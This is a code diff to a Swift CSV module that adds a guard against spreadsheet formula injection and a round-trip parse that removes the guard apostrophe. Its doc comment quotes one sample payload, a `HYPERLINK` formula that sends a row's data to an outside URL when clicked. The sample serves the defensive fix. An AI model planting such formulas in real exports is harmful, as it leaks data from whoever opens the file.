@@ -1,11 +1,52 @@
 /// CSV as RFC 4180 has it: records separated by CRLF (LF accepted), fields by commas, a field
 /// quoted with `"` when it holds a comma, a quote or a line break, quotes doubled inside.
 /// `opps export --csv` and the reports write it; `opps-hub import` reads it.
+///
+/// A spreadsheet opening the file reads a field that starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return as a formula (CSV injection: a rep names a deal
+/// `=HYPERLINK("https://…?"&A2, "详情")` and the manager who opens the export sends the row
+/// away with a click). Such a field is written after an apostrophe, which a spreadsheet shows
+/// as text and hides (`'=HYPERLINK(…)`); a number (`-5`, `+12.50`) is not a formula and is written
+/// as it is. So that reading back gives what was written, a field that starts with an
+/// apostrophe followed by one of those characters or another apostrophe gets one more, and
+/// `parse` takes one such leading apostrophe away: `parse(line(fields))` is `fields`, always.
 public enum CSV {
-    /// One field as written: quoted only when it must be.
+    /// One field as written: guarded against formulas, quoted only when it must be.
     public static func cell(_ text: String) -> String {
-        guard text.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return text }
+        let text = guarded(text)
+        // By scalar: CR LF is one Character, equal to neither "\r" nor "\n".
+        guard text.unicodeScalars.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return text }
         return "\"" + text.replacingAll("\"", with: "\"\"") + "\""
+    }
+
+    /// What a spreadsheet reads a formula's start by, and the guard's own apostrophe.
+    private static func startsFormula(_ c: Unicode.Scalar) -> Bool { c == "=" || c == "+" || c == "-" || c == "@" || c == "\t" || c == "\r" }
+
+    /// `text` with the apostrophe a formula's start needs (see the type's comment).
+    static func guarded(_ text: String) -> String {
+        var scalars = text.unicodeScalars.makeIterator()
+        guard let first = scalars.next() else { return text }
+        if startsFormula(first) { return isNumber(text) ? text : "'" + text }
+        if first == "'", let second = scalars.next(), startsFormula(second) || second == "'" { return "'" + text }
+        return text
+    }
+
+    /// `field` without the apostrophe `guarded` put before it.
+    static func unguarded(_ field: String) -> String {
+        var scalars = field.unicodeScalars.makeIterator()
+        guard scalars.next() == "'", let second = scalars.next(), startsFormula(second) || second == "'" else { return field }
+        return String(field.unicodeScalars.dropFirst())
+    }
+
+    /// A plain decimal number after its sign (`-5`, `+12.50`, `-1,200`, `-12.5%`): what a
+    /// spreadsheet reads as a number, never as a formula.
+    private static func isNumber(_ text: String) -> Bool {
+        var body = text.unicodeScalars.dropFirst()
+        if body.last == "%" { body = body.dropLast() }
+        let parts = body.split(separator: ".", omittingEmptySubsequences: false)
+        func digits<S: Sequence<Unicode.Scalar>>(_ s: S, commas: Bool) -> Bool { s.allSatisfy { ("0"..."9").contains($0) || commas && $0 == "," } }
+        guard parts.count <= 2, let whole = parts.first, let head = whole.first, let tail = whole.last, head != ",", tail != "," else { return false }
+        return digits(whole, commas: true) && (parts.count == 1 || !parts[1].isEmpty && digits(parts[1], commas: false))
     }
 
     /// One record as written.
@@ -82,7 +123,7 @@ public enum CSV {
         }
         if quoted { throw ParseError(line: start, message: "a quoted field is not closed") }
         if !field.isEmpty || !fields.isEmpty || wasQuoted { endRecord() }
-        return rows
+        return rows.map { Row(line: $0.line, fields: $0.fields.map(unguarded)) }
     }
 }
 
